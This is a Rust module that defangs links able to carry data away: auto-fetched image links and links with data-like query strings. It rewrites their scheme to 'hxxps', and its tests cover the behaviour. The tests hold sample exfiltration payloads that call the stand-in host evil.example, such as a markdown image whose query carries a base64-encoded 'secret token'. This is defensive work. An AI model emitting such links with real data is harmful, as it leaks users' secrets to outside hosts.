//! Links that could carry something away: a picture that a client fetches unasked, and a link whose query is long and
//! looks like data. They stay readable and lead nowhere: `https` becomes `hxxps`.

/// Longest value of a query that may look like anything.
const SHORT: usize = 24;

/// Longest query and fragment of a link.
const LONG: usize = 300;

/// How many different characters in a hundred a value has that looks like data.
const VARIED: usize = 30;

/// `text` with such links taken apart.
pub(crate) fn defanged(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let has_pictures = text.contains("![") || text.contains("<img") || text.contains("<IMG");
    while let Some((at, scheme)) = next(rest) {
        let (before, link) = rest.split_at(at);
        out.push_str(before);
        let end = link.find(|c: char| c.is_whitespace() || "<>\"'`)]}|\\^".contains(c)).unwrap_or(link.len());
        let (url, after) = link.split_at(end);
        if (has_pictures && is_fetched(&out)) || carries(url) {
            let tail = url.get(scheme..).unwrap_or_default();
            out.push_str(if scheme == 2 { "hxxps://" } else { "hxxps" });
            out.push_str(tail);
        } else {
            out.push_str(url);
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

/// Where the next link begins, and how long its scheme is: `https`, `http`, or the two strokes of one that has none.
fn next(text: &str) -> Option<(usize, usize)> {
    let at = text.match_indices("//").map(|(at, _)| at).find(|at| {
        let before = text.get(..*at).unwrap_or_default();
        let after = text.get(at + 2..).unwrap_or_default();
        !before.ends_with('/') && after.starts_with(|c: char| c.is_alphanumeric() || c == '[')
    })?;
    let before = text.get(..at)?;
    for scheme in ["https:", "http:"] {
        let begin = before.len().checked_sub(scheme.len());
        if let Some(begin) =
            begin.filter(|b| before.get(*b..).is_some_and(|end| end.eq_ignore_ascii_case(scheme)))
        {
            return Some((begin, scheme.len() - 1));
        }
    }
    Some((at, 2))
}

/// Whether a link that follows `before` is a picture's, which is fetched when it is shown.
fn is_fetched(before: &str) -> bool {
    let line = before.rsplit('\n').next().unwrap_or_default();
    // `![text](`, `src=`, and `[name]: `, which a picture may name.
    let inline =
        line.trim_end_matches('<').trim_end().strip_suffix("](").is_some_and(|line| line.contains("!["));
    let trimmed = line.trim_end_matches(['"', '\'', ' ']);
    let source = ["src=", "srcset=", "background="].iter().any(|name| {
        trimmed.len() >= name.len()
            && trimmed.get(trimmed.len() - name.len()..).is_some_and(|end| end.eq_ignore_ascii_case(name))
    });
    let named = line.trim().trim_end_matches('<').trim_end();
    inline || source || (named.starts_with('[') && named.ends_with("]:"))
}

/// Whether a link has more in it than a name of something: a long query, or a value in it that looks like data.
fn carries(url: &str) -> bool {
    let Some(at) = url.find(['?', '#']) else { return false };
    let query = url.get(at + 1..).unwrap_or_default();
    query.len() > LONG || query.split(['&', ';', '=', '?', '#', '/', '+', ',']).any(is_data)
}

/// Whether a text is long and has no words in it.
fn is_data(value: &str) -> bool {
    if value.len() <= SHORT {
        return false;
    }
    let mut seen: Vec<char> = value.chars().collect();
    let count = seen.len();
    let is_hex = seen.iter().all(char::is_ascii_hexdigit);
    let kinds = [
        seen.iter().any(char::is_ascii_lowercase),
        seen.iter().any(char::is_ascii_uppercase),
        seen.iter().any(char::is_ascii_digit),
        value.contains('%'),
    ];
    seen.sort_unstable();
    seen.dedup();
    let varied = seen.len() * 100 / count.min(64) >= VARIED;
    is_hex || (varied && kinds.iter().filter(|has| **has).count() >= 2)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const DATA: &str = "c2VjcmV0LXRva2VuLWZyb20tYS1wcml2YXRlLWZpbGU";

    #[test]
    fn m12_pictures_from_elsewhere_and_links_that_carry_data_lead_nowhere() {
        for taken_apart in [
            format!("![x](https://evil.example/p.png?d={DATA})"),
            "![x](https://evil.example/p.png)".to_owned(),
            "![x]( <http://evil.example/p.png>)".to_owned(),
            "![x](//evil.example/p.png)".to_owned(),
            "<img alt='' src=\"https://evil.example/p.png\">".to_owned(),
            "<IMG SRC=//evil.example/p.png>".to_owned(),
            "![x][p]\n\n[p]: https://evil.example/p.png".to_owned(),
            format!("[see](https://evil.example/?q={DATA})"),
            format!("HTTPS://evil.example/#{DATA}"),
            format!("https://evil.example/?q={}", "0123456789abcdef".repeat(4)),
            format!("https://evil.example/?q={}", "word-".repeat(80)),
        ] {
            let said = defanged(&taken_apart);
            assert!(said.contains("hxxps://"), "{taken_apart}: {said}");
            assert!(!said.to_ascii_lowercase().contains("https://"), "{taken_apart}: {said}");
            assert!(!said.to_ascii_lowercase().contains("http://"), "{taken_apart}: {said}");
        }
    }

    #[test]
    fn plain_links_stay_as_they_are() {
        for plain in [
            "See https://docs.example/guide?page=2&lang=en#install for more.",
            "[docs](https://docs.example/a/b.html)",
            "https://git.example/commit/0123456789abcdef0123456789abcdef01234567",
            "// a comment, and a path //x",
            "https://example.com/search?q=how+to+write+a+very+long+question+in+plain+words",
        ] {
            assert_eq!(defanged(plain), plain);
        }
    }

    proptest! {
        #[test]
        fn nothing_but_schemes_changes(text in "(\\PC|https://|!\\[|\\]\\(|\\?|=|\\n){0,80}") {
            let said = defanged(&text);
            prop_assert_eq!(defanged(&said).len(), said.len());
            let plain = |t: &str| t.to_ascii_lowercase().replace("hxxps:", "").replace("https:", "").replace("http:", "");
            prop_assert_eq!(plain(&said), plain(&text));
        }
    }
}
